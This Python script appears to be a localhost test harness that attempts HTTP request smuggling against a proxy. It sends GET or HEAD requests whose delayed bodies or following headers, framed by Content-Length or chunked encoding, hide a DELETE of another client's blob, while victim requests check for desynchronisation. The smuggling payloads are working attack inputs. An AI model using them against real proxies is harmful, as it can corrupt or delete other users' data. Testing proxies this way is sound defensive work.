#!/usr/bin/env python3
"""Tries to make a proxy's kept connections carry one client's bytes as another client's request.

    smuggle.py PORT KEY OTHER BLOB-PATH

Clients of two kinds share the proxy at 127.0.0.1:PORT. The attackers GET, or HEAD, /KEY with a body
that comes some milliseconds after its head, announced by a length or chunked; the body, or a header
of the request after it, is a DELETE of BLOB-PATH, what a volume would know as the blob of /OTHER. The
victims GET /OTHER meanwhile, until one of them fails. Prints
"VICTIMS-SERVED VICTIMS-FAILED ATTACKS-ANSWERED"; an attack counts as answered when the first thing
that comes back is an HTTP status line.
"""
import select
import socket
import sys
import threading

PORT, KEY, OTHER, BLOB = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
ROUNDS = 3
served = failed = answered = 0
lock = threading.Lock()


def connect():
    return socket.create_connection(("127.0.0.1", PORT), timeout=10)


def wait(client, milliseconds):
    """Lets the head travel on; what is being tested is what happens in just this time."""
    select.select([client], [], [], milliseconds / 1000)


def read_all(client):
    data = b""
    try:
        while chunk := client.recv(65536):
            data += chunk
    except OSError:
        pass
    return data


def attack(method, framing, delay, body, request):
    global answered
    head = f"{method} /{KEY} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{framing}\r\n\r\n".encode()
    client = connect()
    try:
        client.sendall(head)
        wait(client, delay)
        client.sendall(body + request)
    except OSError:
        pass  # it has hung up, which is an answer too
    data = read_all(client)
    client.close()
    with lock:
        answered += data.startswith(b"HTTP/1.1 ")


def be_victim():
    global served, failed
    client = connect()
    client.sendall(f"GET /{OTHER} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    data = read_all(client)
    client.close()
    good = data.startswith((b"HTTP/1.1 200 ", b"HTTP/1.1 302 "))
    with lock:
        served += good
        failed += not good


def attacks():
    smuggled = f"DELETE {BLOB} HTTP/1.0\r\n\r\n".encode()
    # A length that swallows the request line and the name of a header of what comes next, on the
    # volume's connection: what the header says is then a request.
    later = f"GET /{OTHER} HTTP/1.1\r\nX-A: DELETE {BLOB} HTTP/1.0\r\nHost: x\r\n\r\n".encode()
    for delay in (0, 1, 2, 5, 10):
        yield "Content-Length: 3", delay, b"abc", b""
        yield f"Content-Length: {len(smuggled)}", delay, smuggled, b""
        yield "Content-Length: 3", delay, b"", later
        yield "Content-Length: 70", delay, b"", later
        yield "Transfer-Encoding: chunked", delay, b"%x\r\n%s\r\n0\r\n\r\n" % (len(smuggled), smuggled), b""
        yield "Transfer-Encoding: chunked", delay, b"0\r\n\r\n", later


def main():
    for n in range(ROUNDS):
        for each in attacks():
            threads = [threading.Thread(target=attack, args=(("GET", "HEAD")[n % 2], *each))]
            threads += [threading.Thread(target=be_victim) for _ in range(2)]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
            be_victim()
            if failed: # the others of its kind would wait for their time-outs
                break
    print(served, failed, answered)


main()
